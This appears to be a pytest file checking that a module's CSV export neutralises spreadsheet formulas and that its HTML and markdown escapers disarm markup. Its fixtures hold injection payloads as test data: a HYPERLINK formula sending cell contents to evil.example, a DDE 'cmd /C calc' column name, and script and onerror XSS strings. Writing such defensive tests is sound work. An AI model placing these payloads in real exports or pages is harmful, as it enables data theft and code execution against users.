"""lib/store/text.py: data strings escaped for HTML and markdown, CSV cells that cannot run as formulas."""

from __future__ import annotations

import csv
import html
import io

import pandas as pd
import pytest

from lib.store.text import FORMULA_START, csv_bytes, csv_safe, html_text, markdown_text

# What a hostile event title, venue or area name could be (OWASP CSV Injection's examples and ours).
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1", "-"]
NUMBERS = ["-5", "-2.5", "+3", "1,234", "-1e3", ".5"]
HOSTILE_NAMES = ["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", '" onmouseover="alert(1)', "a & b"]


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_formula_cells_get_an_apostrophe_and_everything_else_is_unchanged():
    frame = pd.DataFrame(
        {
            "title": FORMULAS + NUMBERS + ["Coffee with a cop", None],
            "attendees": list(range(-len(FORMULAS), 0)) + list(range(len(NUMBERS) + 2)),
        }
    )
    rows = read_back(csv_bytes(frame))
    assert rows[0] == ["title", "attendees"]
    titles = [r[0] for r in rows[1:]]
    assert titles[: len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert titles[len(FORMULAS) : -2] == NUMBERS  # text that is a number is left a number
    assert titles[-2:] == ["Coffee with a cop", ""]
    # Numeric columns stay numbers, negative ones included.
    assert [int(r[1]) for r in rows[1:]] == list(frame["attendees"])
    assert not any(
        cell.startswith(FORMULA_START) and cell not in NUMBERS and not cell.lstrip("-").isdigit()
        for row in rows
        for cell in row
    )


def test_column_names_categories_and_string_dtype_are_neutralised_too():
    frame = pd.DataFrame(
        {"=cmd|' /C calc'!A0": pd.Categorical(["@SUM(A1)", "ok"]), "venue": pd.array(["+1+1", "x"], "string")}
    )
    out = csv_safe(frame)
    assert list(out.columns) == ["'=cmd|' /C calc'!A0", "venue"]
    assert list(out.iloc[:, 0]) == ["'@SUM(A1)", "ok"]
    assert list(out["venue"]) == ["'+1+1", "x"]
    assert list(frame["venue"]) == ["+1+1", "x"]  # the caller's frame is left as it was


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_html_text_is_shown_as_written(name):
    escaped = html_text(name)
    assert "<" not in escaped and ">" not in escaped and '"' not in escaped
    assert html.unescape(escaped) == name


def test_markdown_text_has_no_markup_left():
    text = "[click](https://evil.example) ![x](https://evil.example/t.png) **bold** $x^2$ :red[alarm] <b>"
    escaped = markdown_text(text)
    assert escaped == (
        "\\[click\\](https\\://evil.example) !\\[x\\](https\\://evil.example/t.png) \\*\\*bold\\*\\* "
        "\\$x^2\\$ \\:red\\[alarm\\] \\<b\\>"
    )
    # A line break would start a new block: the text stays one line.
    assert markdown_text("x\n# heading\n1. list") == "x # heading 1. list"
    for start in ("# heading", "- item", "+ item", "> quote", "1. item", "2) item", "=== rule"):
        assert markdown_text(start).startswith(("\\", "1\\", "2\\")), start
    assert markdown_text("see www.evil.example, _em_ and &lt;") == "see www\\.evil.example, \\_em\\_ and \\&lt;"


def test_markdown_text_leaves_ordinary_text_as_it_is():
    for text in ("District 11 (11TH)", "Source: chicago_crimes_sample_2017_2019.csv.gz.", "1-4 fewer than 5", "a & b"):
        assert markdown_text(text) == text
    assert markdown_text(None) == ""
